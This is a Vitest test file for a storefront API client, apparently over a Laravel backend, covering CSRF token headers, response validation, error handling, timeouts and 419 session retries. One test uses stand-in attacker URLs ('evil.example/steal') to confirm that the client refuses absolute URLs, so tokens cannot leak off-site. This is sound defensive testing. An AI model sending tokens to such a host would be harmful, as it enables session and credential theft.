import { describe, expect, it, vi } from 'vitest';
import { http as mswHttp, HttpResponse } from 'msw';
import { backend, server } from '../../../demo-pages/mock/node';
import * as api from '../../../shared/api/calls';
import { ApiError } from '../../../shared/api/client';
import { http } from '../../../shared/api/transport';
import { $sessionExpired } from '../../../shared/stores/session';

function meta(token: string) {
  const el = document.createElement('meta');
  el.name = 'csrf-token';
  el.content = token;
  document.head.append(el);
}

async function failure(promise: Promise<unknown>): Promise<ApiError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(ApiError);
    return error as ApiError;
  }
  throw new Error('expected the call to fail');
}

describe('api client', () => {
  it('sends the Laravel headers on every call', async () => {
    await api.getCartCount();
    const [call] = backend.callsTo('/cart/get-count');
    expect(call!.headers['x-requested-with']).toBe('XMLHttpRequest');
    expect(call!.headers.accept).toContain('application/json');
  });

  it('sends the meta token as X-CSRF-TOKEN only when no XSRF-TOKEN cookie is readable', async () => {
    meta('meta-token');
    await api.loyaltyAdd('share');
    expect(backend.callsTo('/loyalty-add')[0]!.headers['x-csrf-token']).toBe('meta-token');

    document.cookie = 'XSRF-TOKEN=cookie-token; path=/';
    await api.loyaltyAdd('share');
    const second = backend.callsTo('/loyalty-add')[1]!.headers;
    expect(second['x-csrf-token']).toBeUndefined();
    expect(second['x-xsrf-token']).toBe('cookie-token');
  });

  it('refuses absolute URLs, so no token leaves the site', async () => {
    meta('meta-token');
    await expect(http.get('https://evil.example/steal')).rejects.toThrow(/non-relative/);
    await expect(http.get('//evil.example/steal')).rejects.toThrow(/non-relative/);
  });

  it('validates answers: a malformed body is a failed call, not a crash', async () => {
    backend.fail('/cart/retrieve', 'malformed');
    const error = await failure(api.getCart());
    expect(error.kind).toBe('malformed');
  });

  it('a wrong shape is a failed call too', async () => {
    server.use(mswHttp.get('/cart/retrieve', () => HttpResponse.json('many')));
    expect((await failure(api.getCart())).kind).toBe('malformed');
  });

  it('a wrong field is dropped with one warning naming the call and the field; the answer is still used', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    server.use(mswHttp.get('/cart/retrieve', () => HttpResponse.json({ CartQuantity: 'many', cart_items: [{ id: 1, quantity: 2 }], CartErrors: 0 })));
    expect((await api.getCart()).CartQuantity).toBe(2);
    expect(warn.mock.calls.map((c) => String(c[0]))).toEqual(['[storefront] GET /cart/retrieve: dropped field "CartQuantity" (must be a number)']);
  });

  it.each([
    ['500', 'http', 500],
    ['404', 'http', 404],
    ['network', 'network', undefined],
  ] as const)('%s → ApiError %s', async (mode, kind, status) => {
    backend.fail('/cart/retrieve', mode);
    const error = await failure(api.getCart());
    expect(error.kind).toBe(kind);
    expect(error.status).toBe(status);
  });

  it('times out instead of hanging', async () => {
    backend.fail('/cart/retrieve', 'timeout');
    expect((await failure(api.getCart({ timeout: 50 }))).kind).toBe('timeout');
  });

  it('can be aborted', async () => {
    backend.delay('/cart/retrieve', 200);
    const controller = new AbortController();
    const pending = api.getCart({ signal: controller.signal });
    controller.abort();
    expect((await failure(pending)).kind).toBe('aborted');
  });

  it('419 once: refreshes the cookie with one GET, retries once, succeeds', async () => {
    backend.fail('/loyalty-add', '419-once');
    await api.loyaltyAdd('share');
    expect(backend.calls.map((c) => c.path)).toEqual(['/loyalty-add', '/cart/get-count', '/loyalty-add']);
    expect($sessionExpired.get()).toBe(false);
  });

  it('419 twice: no loop, one session-expired flag', async () => {
    backend.fail('/loyalty-add', '419');
    const error = await failure(api.loyaltyAdd('share'));
    expect(error.kind).toBe('session-expired');
    expect(backend.calls.map((c) => c.path)).toEqual(['/loyalty-add', '/cart/get-count', '/loyalty-add']);
    expect($sessionExpired.get()).toBe(true);
  });

  it('normalises loose Laravel values (numeric strings, 0/1 flags, nulls)', async () => {
    server.use(
      mswHttp.get('/cart/retrieve', () =>
        HttpResponse.json({
          CartQuantity: '2',
          CartErrors: 1,
          cart_items: [{ id: 5, title: 'Box', Title: null, price: '19.99', Price: null, quantity: 2, Image: null, product: null }],
        }),
      ),
    );
    const cart = await api.getCart();
    expect(cart.CartQuantity).toBe(2);
    expect(cart.CartErrors).toBe(true);
    expect(cart.cart_items[0]).toMatchObject({ price: 19.99, Price: 0, Title: '' });
  });

  it('every call of spec §7 has a typed function that the mock answers', async () => {
    const answers = await Promise.all([
      api.getCart(),
      api.getUpsell(),
      api.getCartCount(),
      api.addCartItem({ title: 'Sleeves', quantity: 1, price: 5, attributes: {}, id: 41, product_id: 41, region: 'US' }),
      api.loadProduct(1),
      api.getLiveBreakers(),
      api.getRecentlyViewed(),
      api.getTrendingSearches(),
      api.autoSearch('pokemon'),
      api.clearUserSearches(),
      api.determineUserCountry(),
      api.optInCurrencyDisplay('CA'),
      api.optOutCurrency(),
      api.loyaltyAdd('share'),
    ]);
    expect(answers).toHaveLength(14);
    const cart = await api.getCart();
    expect(cart.cart_items).toHaveLength(1);
    expect((await api.removeCartItem(cart.cart_items[0]!.id)).cart_items).toHaveLength(0);
    const loginError = await failure(api.login('a@b.c', 'wrong'));
    expect(loginError.body).toEqual({ error: expect.any(String) });
    await expect(api.login('a@b.c', 'cards4life')).resolves.toBeDefined();
    expect(api.PAYPAL_EXPRESS_ACTION).toBe('/cart/checkout/paypal-express');
  });

  it('login tells the URL its answer came from (XHR responseURL), so a followed Laravel redirect can be read', async () => {
    const answer = await api.login('a@b.c', 'cards4life');
    // msw/node does not follow redirects: the URL is the call's own, absolute.
    expect(answer).toEqual({ data: { success: true, redirect: '/user/logged-in' }, url: 'http://shop.test/login' });
  });

  it('no unhandled rejection leaks from a failed call that is caught', async () => {
    const unhandled = vi.fn();
    process.on('unhandledRejection', unhandled);
    backend.fail('/cart/get-count', '500');
    await api.getCartCount().catch(() => {});
    await new Promise((r) => setTimeout(r, 10));
    process.off('unhandledRejection', unhandled);
    expect(unhandled).not.toHaveBeenCalled();
  });
});
